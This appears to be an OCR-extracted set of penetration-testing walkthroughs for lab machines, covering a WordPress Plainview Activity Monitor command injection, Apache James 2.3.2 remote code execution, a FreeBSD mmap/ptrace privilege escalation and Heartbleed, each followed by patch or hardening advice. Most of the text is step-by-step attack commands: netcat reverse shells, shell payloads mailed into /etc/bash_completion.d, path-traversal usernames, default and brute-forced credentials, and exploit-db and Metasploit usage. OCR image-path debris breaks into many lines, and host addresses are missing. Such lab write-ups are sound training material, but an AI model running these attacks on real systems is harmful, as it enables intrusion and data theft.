WordPress Plugin: Plainview Activity Monitor – (Authenticated) Command Injection – CVE-2018-15877

Plainview Activity Monitor plugin for WordPress could allow a remote authenticated attacker to execute arbitrary commands on the system. By sending a specially-crafted request, an attacker could exploit this vulnerability using shell metacharacters in the ip parameter to inject and execute arbitrary OS commands on the system.

The Plainview Activity Monitor plugin before 2018/08/26 for WordPress is vulnerable to OS command injection via shell metacharacters in the ip parameter of a wp-admin/admin.php?page=plainview_activity_monitor&tab=activity_tools request.

More details







1. This is an authenticated exploit, so, we need to have WordPress username & password. I brute forced, and got my way into.

  • http://wordy/wp-login.php
  • mark / helpdesk01

2. Within the menu go to

  • Activity monitor - tools
  • /wp-admin/admin.php?page=plainview_activity_monitor&tab=activity_tools

3. Now fill the IP box and click on Lookup, capture this request using a web proxy. I’ll be using BurpSuite

4. Now we need to inject a Linux command within that “ip” parameter, we can use “|;&” since, these metacharacters have a meaning to the OS

5. Before we forward the crafted request, start a listener on the offensive machine

  • nc -lvp 9999

6. After forwarding the request, we immediately get a reverse connection in our machine from the remote WordPress server• whoami


Upgrade to the latest version of Plainview Activity Monitor plugin (20180826 or later), available from the WordPress Plugins Directory.


Apache James Server 2.3.2 – CVE-2015-7611

Apache James is a mail and news server and software framework written in Java. A bug in version 2.3.2 enables an attacker to execute arbitrary commands on the machine running the server.

The vulnerability arises from an insecure default configuration and a lack of input validation in the server's user creation mechanism; it allows an attacker to inject commands to execute when a user signs into the machine. Despite the vulnerability, a number of techniques can be employed to reduce the machine's attack surface and mitigate the risk of a compromise.1. Scan to verify the version of the services running

  • nmap -p- -A -sV -sC

2. Log in using defaults

By default, the Apache James administrator has the same username and password, "root." Using these credentials gives us access to the administration console, where we can create new users with the "adduser" command.

  • telnet 4555
  • root/root

3. Create an Exploitable User

The format of the command is "adduser <username> <password>," where "<username>" represents the username to be created, and "<password>" represents the user's password. To gain the ability to put files in "/etc/bash_completion.d," we create a mail user with the username "../../../../../../../../etc/bash_completion.d" with the command:

  • listusers
  • adduser../../../../../../../../etc/bash_completion.d password
  • listusers


Bash completion is a functionality through which bash helps users type their commands faster and easier. It accomplishes that by presenting possible options when users press the tab key while typing a command.The completion script is code that uses the builtin bash command complete to define which completion suggestions can be displayed for a given executable. The nature of the completion options vary from simple static to highly sophisticated.

4. Being there as root admin, we can also, restart users mail passwords

  • listusers
  • setpassword mindy vpassword

5. Having access to the users’ mail, we can further exploit this vulnerability. First of all, let’s try toread the users emails, lets connect to POP3 (110)

  • telnet 110
  • USER mindy
  • PASS vpassword
  • LIST
  • RETR 2

6. Now, we will send a special email message, from our compromised email address, to the newly created account, that will execute once, the user logs in. This is done via SMTP (25)

  • telnet
  • HELO mindy
  • MAIL FROM: <’mindy@localhost>
  • RCPT TO: <../../../../../../../../etc/bash_completion.d>
  • DATA
  • From: mindy@localhost
  • hostname | nc 3333
  • .

7. Now at the attacking machine start a netcat listener, once, the user logs in we can see the remote command displayed in the local machine

  • nc -lvp 3333 -o out

8. Now that we ran the remote command we can try to inject a bash reverse shell. So, when the user logs in, we receive a direct connection

  • telnet
  • HELO mindy
  • MAIL FROM: <’mindy@localhost>
  • RCPTTO: <../../../../../../../../etc/bash_completion.d>
  • DATA
  • From: mindy@localhost
  • nc -e /bin/bash 6666
  • .
  • quit

8. Start a netcat listener on our machine, and wait for the user to log in

  • nc -lvp 6666

Alternative Exploitation

1. We have an automated method of exploiting thisusing a python script (https://www.exploit-db.com/exploits/35513)

  • searchsploit james 2.3.2
  • searchsploit -m linux/remote/35513.py

2. Now edit the file, and, add the command you want to run. In this case, I’d update the payload to run a netcat reverse connection

  • vi 35513.py
  • payload = 'nc -e /bin/bash 7777'

3. Run a netcat listener

  • nc -lvp 7777

4. Run the python script

  • python 35513.py

5. Wait for someone to log in


Upgrade to the latest version of James Server ( or later)


Change the Root Password

The root password can be set through the administration console. Changing the password makes an attack more time-consuming by increasing the effort required to gain access.

  • telnet 4555
  • root/root
  • setpassword root <newpassword>

Restrict Access to the Administration Console

To limit the attack surface, the administration console should only be accessible from the local machine or from a whitelist of IP ranges, such as those on an internal network. These restrictions are effective because they require the attacker to devise an alternate means of accessing the machine.

Uninstall Bash-Completion

The vulnerability cannot be exploited as described without the presence of Bash-completion on the mail server machine. Though there are other executable paths on the system, e.g. "/etc/rc.d," removing Bash-completion decreases an attacker's options and increases the effort required to exploit the machine

Run the Server as an Unprivileged UserRunning the server as an unprivileged user is the most effective of the techniques described here. The default configuration lends the server to run as the root user due to the need to bind to port 25, a privileged port. Choosing a port above 1023 removes this restriction and allows us to run the server as an unprivileged user and on an unprivileged port. To continue serving SMTP requests on port 25, the firewall can forward requests to the new, unprivileged port. In this mode, the server is limited in its use of system resources. An attacker trying to create an exploitable user will fail because the server can no longer alter the contents of "/etc/bash_completion.d."FreeBSD 9.0 < 9.1 - 'mmap/ptrace' Local Privilege Escalation

FreeBSD could allow a local attacker to gain elevated privileges on the system, caused by insufficient permission checks within the virtual memory system. An attacker could exploit this vulnerability using specific memory mapping and tracing operations to modify portions of the traced process's address space.

The vm_map_lookup function in sys/vm/vm_map.c in the mmap implementation in the kernel in FreeBSD 9.0 through 9.1-RELEASE-p4 does not properly determine whether a task should have write access to a memory location, which allows local users to bypass filesystem write permissions and consequently gain privileges via a crafted application that leverages read permissions, and makes mmap and ptrace system calls.How to exploit

1. Find out the version of the server, in this case I found a file named, COPYRIGHT in /, which included the OS version

  • uname -a

2. I searched for “freebsd 9.0” in exploit-db.com, and I found an exploit that actually works on my scenario.

3. I then downloaded it from searchsploit, which contains the same code

  • searchsploit freebsd 9.0
  • searchsploit -m freebsd/local/26368.c
  • ls -l

4. On the locat machine (Kali), I will start a bind shell

  • nc -lvp 4455 < 26368.c

5. From the remote victim (Server), we will now download the file

  • nc 4455 > exploit.c
  • ls
  • cat exploit.c

Note: To transfer the files you can use wget, curl from HTTP server, scp, etc, or your preferred method

6. We need to make sure gcc is install in the server for compilation porpuses, it can also be compiled in the local Kali machine

  • whereis gcc

7. Compile the exploit

  • gcc exploit.c -o exploit

8. check permissions, make sure it is executable, then check current user

  • ls -l
  • whoami

9. Execute the script, and, check again the current user

  • ./exploit
  • whoami


Refer to FreeBSD-SA-13:06.mmap for patch, upgrade or suggested workaround information.



ssl-heartbleed – CVE-2014-0160

The (1) TLS and (2) DTLS implementations in OpenSSL1.0.1 before 1.0.1g do not properly handle Heartbeat Extension packets, which allows remote attackers to obtain sensitive information from process memory via crafted packets that trigger a buffer over-read, as demonstrated by reading private keys, related to d1_both.c and t1_lib.c, aka the Heartbleed bug.

OpenSSL 1.0.1f, 1.0.1e, 1.0.1d, 1.0.1c, 1.0.1b, 1.0.1a, and 1.0.1 are vulnerable.






1. Scan for the vulnerability• nmap --script ssl-heartbleed

In this case Nmap shows it is vulnerable

  • sslyze --heartbleedSslyze shows it is not vulnerable somehow, this could be an additional test

Running scan with metasploit

  • msfconsole
  • search heartbleed
  • use auxiliary/scanner/ssl/openssl_heartbleed

  • show options
  • set RHOSTS
  • exploit

As it shows vulnerable to ssl-heartbleed we run a python script against it

2. Download the exploit https://gist.github.com/eelsivart/10174134

  • wget https://gist.githubusercontent.com/eelsivart/10174134/raw/8aea10b2f0f6842ccff97ee921a836cf05cd7530/heartbleed.py
  • ls

3. Running heartbleed.py

  • python heartbleed.py

  • python heartbleed -n 100

The memory is leaked, we can see there an interesting base64 sting. This like that cancome across.

This value can be changed to inspect lager/shorter pieces of memory

  • vi heartbleed.py


Updates are available. Please see the references orvendor advisory for more information.